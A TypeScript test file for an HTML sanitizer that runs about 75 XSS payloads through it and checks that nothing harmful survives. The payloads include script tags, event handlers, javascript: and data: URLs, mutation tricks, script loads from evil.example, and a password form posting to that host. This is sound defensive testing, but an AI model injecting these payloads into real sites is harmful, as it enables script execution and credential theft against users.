import { Parser } from 'htmlparser2'
import { expect, test } from 'vitest'
import { cleanContent, findPictureKeys } from './clean-content.ts'

const ORIGIN = 'https://hearth.example'
const PICTURE = '/api/ext/files/images/a1.jpg'

/** Each runs a script in a browser that takes it as it is. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="https://evil.example/x.png" onload="alert(1)">',
  `<img src="${PICTURE}" onload="alert(1)" style="position:fixed">`,
  '<img srcset="x 1x, javascript:alert(1) 2x" src=x>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg/onload=alert(1)//',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target=_top>x</a>',
  '<a href="https://ok.example" style="background:url(javascript:alert(1))">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<select onchange=alert(1)><option>x</select>',
  '<textarea onfocus=alert(1) autofocus>x</textarea>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>x</body>',
  '<html><head><meta http-equiv=refresh content="0;url=javascript:alert(1)"></head></html>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="expression(alert(1))">x</p>',
  '<div style="position:fixed;inset:0;z-index:9">x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title><script>alert(1)</script></title>',
  '<frameset onload=alert(1)><frame src=x></frameset>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p id="x" class="fixed" name="y" data-x="1" contenteditable>x</p>',
  '<h1 onmouseover=alert(1)>x</h1>',
  '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</table>',
  '<th scope="row" onmouseenter=alert(1) width=9999>x</th>',
  '<p lang="en" dir="rtl" onpointerdown=alert(1)>x</p>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<slot onslotchange=alert(1)>x</slot>',
  '<portal src="https://evil.example">x</portal>',
  '<blink onclick=alert(1)>x</blink>',
] as const

/** Pieces of other markup around a payload, whole and broken. */
const PLACES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `<p>Before ${payload} after</p>`,
  (payload) => `<ul><li>${payload}<li></p></ul></b>`,
  (payload) => `<table><tr>${payload}<td><p></table>${payload.toUpperCase()}`,
]

const TAGS = new Set(
  'h2 h3 h4 p br hr blockquote pre code strong em b i u s sub sup small a ul ol li dl dt dd figure figcaption img table caption thead tbody tr th td'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set(
  'href title rel src alt width height loading scope colspan rowspan lang dir'.split(' '),
)
const SCHEMES = new Set(['https:', 'http:', 'mailto:', 'tel:'])

function isHarmless(address: string): boolean {
  return !address.startsWith('//') && SCHEMES.has(URL.parse(address, ORIGIN)?.protocol ?? '')
}

/** What a browser would make of it that it must not. */
function listFaults(html: string): string[] {
  const faults: string[] = []
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!TAGS.has(name)) faults.push(`<${name}>`)
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ATTRIBUTES.has(attribute)) faults.push(`${name} ${attribute}`)
        if (attribute === 'href' && !isHarmless(value)) faults.push(value)
        if (attribute === 'src' && value !== PICTURE) faults.push(value)
      }
    },
    oncomment: () => faults.push('comment'),
    onprocessinginstruction: (name) => faults.push(name),
  })
  parser.end(html)
  return faults
}

const cases = PAYLOADS.flatMap((payload) => PLACES.map((place) => place(payload)))

test('there are 300 hostile texts, and each is one as it is', () => {
  expect(cases).toHaveLength(300)
  // The page that follows closes an open tag.
  expect(cases.filter((html) => listFaults(`${html} >`).length === 0)).toEqual([])
})

test.each(cases)('nothing of %j runs, loads or covers anything', (html) => {
  const clean = cleanContent(html, 'html', ORIGIN)
  expect(listFaults(clean)).toEqual([])
  expect(cleanContent(clean, 'html', ORIGIN)).toBe(clean)
})

test('formatting stays, and pictures of the site become paths', () => {
  const html = `<h2>Moving</h2><p dir="rtl"><strong>x</strong> <a href="https://ok.example/">y</a></p><img src="${ORIGIN}${PICTURE}?w=960" alt="Box">`
  const clean = cleanContent(html, 'html', ORIGIN)
  expect(clean).toContain('<h2>Moving</h2><p dir="rtl"><strong>x</strong>')
  expect(clean).toContain(`src="${PICTURE}"`)
  expect(findPictureKeys(clean)).toEqual(['a1.jpg'])
})

test.each(['<p></p>', '<p><br></p>', ' ', '<p>\u200b</p>', '<script>x</script>'])(
  '%j is empty',
  (html) => {
    expect(cleanContent(html, 'html', ORIGIN)).toBe('')
  },
)

test('plain fields keep brackets as text', () => {
  expect(cleanContent('a < b\n<b>c</b>', 'lines', ORIGIN)).toBe('a < b\n<b>c</b>')
})
